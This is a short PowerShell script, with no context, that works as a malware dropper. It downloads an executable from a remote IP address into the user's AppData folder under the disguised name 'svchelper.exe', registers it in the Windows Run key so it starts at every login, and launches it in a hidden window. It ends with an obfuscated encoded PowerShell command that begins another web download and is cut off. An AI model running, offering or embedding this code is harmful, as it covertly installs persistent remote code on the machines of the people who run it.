$u = "http://198.51.100.31/svchelper.exe"
$p = "$env:APPDATA\Microsoft\svchelper.exe"
(New-Object System.Net.WebClient).DownloadFile($u, $p)
New-ItemProperty -Path "HKCU:\Software\Microsoft\Windows\CurrentVersion\Run" -Name "SvcHelper" -Value $p -PropertyType String -Force
Start-Process -FilePath $p -WindowStyle Hidden
powershell -NoProfile -EncodedCommand JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQA
